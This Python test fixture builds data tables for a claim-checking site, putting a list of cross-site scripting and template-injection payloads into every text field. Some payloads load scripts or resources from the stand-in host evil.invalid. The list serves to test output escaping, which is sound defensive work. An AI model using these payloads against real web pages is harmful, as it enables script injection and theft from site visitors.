"""A folder comes in; tables whose every text is meant to run in a reader's browser lie in it afterwards."""

import shutil
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import factories
from sources import ROOT

from etl import tables
from etl.vocabulary import (
    ClaimPart,
    Clue,
    Document,
    Finding,
    Holding,
    How,
    Number,
    Passage,
    Reason,
    Rule,
    TakenAs,
    Verdict,
)


# Each would set off `alert`, or fetch from a host of its own, where it is taken for more than text.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<script src=//evil.invalid/x.js></script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.invalid/pixel.png>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.invalid/></iframe>",
    "<object data=https://evil.invalid/x></object>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<style>@import url(https://evil.invalid/x.css);</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<base href=https://evil.invalid/>",
    "<a href=javascript:alert(1)>here</a>",
    "[here](javascript:alert(1)) ![x](https://evil.invalid/pixel.png)",
    "<a href='https://evil.invalid/' style='font-size:99px'>here</a>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(1)}#{alert(1)}`${alert(1)}`",
    "%{customdata[0]}%{meta}<extra></extra><b>bold<br>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video><body onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "\u202e<script>alert(1)</script>\u2066\u200b",
    "-->]]></textarea></title></noscript><img src=x onerror=alert(1)><!--",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    '//evil.invalid/"onmouseover="alert(1)',
)
# Of these ids a page's address is made; the tables name several in one cell, with blanks between.
NAME = "d'\"><img/src=x/onerror=alert(1)>"
OFFICIAL = ("observations", "series", "implied_totals")


def named(number: int) -> str:
    """The id of a document: most are plain, so that its pages can be asked for; the last is hostile."""
    return NAME if number == len(PAYLOADS) - 1 else f"d{number:02}"


def write(folder: Path) -> None:
    """A row of every table for each of the payloads, beside the official series as they are shipped."""
    folder.mkdir(exist_ok=True)
    rows: dict[str, list[Any]] = {name: [] for name in tables.TABLES}
    for number, payload in enumerate(PAYLOADS):
        for name, row in of_document(number, payload).items():
            rows[name].append(row)
    for name, record in tables.TABLES.items():
        if name in OFFICIAL:
            shutil.copy(ROOT / f"data/{name}.csv", folder)
        else:
            tables.write(record, rows[name], folder / f"{name}.csv")


def of_document(number: int, payload: str) -> dict[str, Any]:
    """A row of each table about one document, the payload in every text of it."""
    document_id, day = named(number), date(2025, 10, 20)
    prefix, exact, suffix = f"{payload} ", f"{36_000 + number:,}", f" people {payload}"
    start, text = len(prefix), f"{prefix}{exact}{suffix}"
    end = start + len(exact)
    claim = replace(
        factories.claim(36_000 + number, f"2025-01-01/{day - timedelta(days=9 * number + 1)}"),
        claim_id=f"{document_id}:{start}", document_id=document_id, start=start, end=end,
        subset="" if number % 3 == 0 else payload, period_text=payload, speaker=payload,
        prefix=prefix, exact=exact, suffix=suffix,
        indicator=("arrivals", "returns_to_france", "boats")[number % 3],
    )  # fmt: skip
    verdict = (Verdict.DIFFERS, Verdict.AGREES, Verdict.UNDECIDED)[number % 3]
    reason = {
        Verdict.DIFFERS: Reason.NO_READING_FITS,
        Verdict.AGREES: Reason.EXACT,
        Verdict.UNDECIDED: Reason.PERIOD_UNCLEAR,
    }[verdict]
    check = payload if number % 5 == 0 else "official_series"
    return {
        "documents": Document(document_id, payload, payload, day, ADDRESSES[number % len(ADDRESSES)], payload,
                              Holding.PASSAGES, len(text), payload),
        "passages": Passage(document_id, 0, text),
        "claims": claim,
        "clues": Clue(ClaimPart.PERIOD, 0, len(payload), payload, How.BESIDE, Rule.NONE, claim_id=claim.claim_id),
        "numbers": Number(document_id, start, end, exact, TakenAs.CLAIM),
        "findings": Finding(f"f{number:02}{NAME}", check, claim.indicator, verdict, reason, claim.claim_id,
                            claim.value, 1.0, 2.0, payload, payload, day),
    }  # fmt: skip
